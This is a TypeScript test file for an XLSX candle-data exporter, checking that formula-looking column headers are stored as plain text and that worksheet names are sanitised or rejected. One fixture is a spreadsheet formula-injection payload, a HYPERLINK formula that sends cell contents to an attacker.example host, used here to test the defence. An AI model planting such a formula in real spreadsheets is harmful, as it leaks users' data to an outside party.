import { test } from 'node:test';
import assert from 'node:assert/strict';
import ExcelJS from 'exceljs';
import { candlesFromColumns, candlesToXlsx, readCandlesXlsx, type Candles } from '@bt/core/candles';

const HOUR = 3_600_000;
const FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A2,"Cliquez")';

function twoCandles(symbol: string | undefined, extra: Record<string, Float64Array> = {}): Candles {
  return candlesFromColumns({
    time: new Float64Array([Date.UTC(2024, 0, 1), Date.UTC(2024, 0, 1) + HOUR]),
    open: new Float64Array([1.1, 1.2]), high: new Float64Array([1.3, 1.4]), low: new Float64Array([1.0, 1.1]),
    close: new Float64Array([1.2, 1.3]), volume: new Float64Array([10, 20]), extra,
  }, symbol === undefined ? {} : { symbol });
}

async function firstSheet(bytes: Uint8Array): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength) as ArrayBuffer);
  return workbook.worksheets[0];
}

test('a formula-looking column name is written as a text cell, never as a formula, and reads back as written', async () => {
  const bytes = await candlesToXlsx(twoCandles('EURUSD', { [FORMULA]: new Float64Array([1, 2]), '+SUM(1,2)': new Float64Array([3, 4]) }));
  const sheet = await firstSheet(bytes);
  for (const column of [7, 8]) {
    const cell = sheet.getRow(1).getCell(column);
    assert.equal(cell.type, ExcelJS.ValueType.String, `header cell ${column}`);
    assert.equal(cell.formula, undefined);
  }
  assert.equal(sheet.getRow(1).getCell(7).value, FORMULA);
  const back = await readCandlesXlsx(bytes);
  assert.deepEqual(Object.keys(back.candles.extra), [FORMULA, '+SUM(1,2)']);
});

test('a symbol Excel would refuse as a worksheet name still writes: its name is made valid', async () => {
  const cases: [string | undefined, string][] = [
    ['EURUSD', 'EURUSD'],
    [undefined, 'Candles'],
    ['BTC/USDT', 'BTC_USDT'],
    ['a:b*c?d[e]f\\g', 'a_b_c_d_e_f_g'],
    ["'XAUUSD'", 'XAUUSD'],
    ['History', 'Candles'],
    ['HISTORY', 'Candles'],
    ["''''", 'Candles'],
    ['X'.repeat(40), 'X'.repeat(31)],
    ['A'.repeat(30) + '😀', 'A'.repeat(30)],
  ];
  for (const [symbol, expected] of cases) {
    const bytes = await candlesToXlsx(twoCandles(symbol));
    const sheet = await firstSheet(bytes);
    assert.equal(sheet.name, expected, `symbol ${JSON.stringify(symbol)}`);
    assert.equal((await readCandlesXlsx(bytes)).candles.length, 2);
  }
});

test('a worksheet name given by the caller that Excel would refuse is refused by name, before any work', async () => {
  const refused: [unknown, RegExp][] = [
    ['', /invalid sheetName: "" \(empty\)/],
    ['a/b', /invalid sheetName: "a\/b" \(holds one of/],
    ['x'.repeat(32), /longer than 31 characters/],
    ["'quoted'", /apostrophe/],
    ['history', /reserved by Excel/],
    [42, /invalid sheetName: 42 \(expected text\)/],
  ];
  for (const [sheetName, message] of refused) {
    await assert.rejects(candlesToXlsx(twoCandles('EURUSD'), { sheetName: sheetName as string }), message);
  }
  const named = await firstSheet(await candlesToXlsx(twoCandles('EURUSD'), { sheetName: 'Bougies M1' }));
  assert.equal(named.name, 'Bougies M1');
});
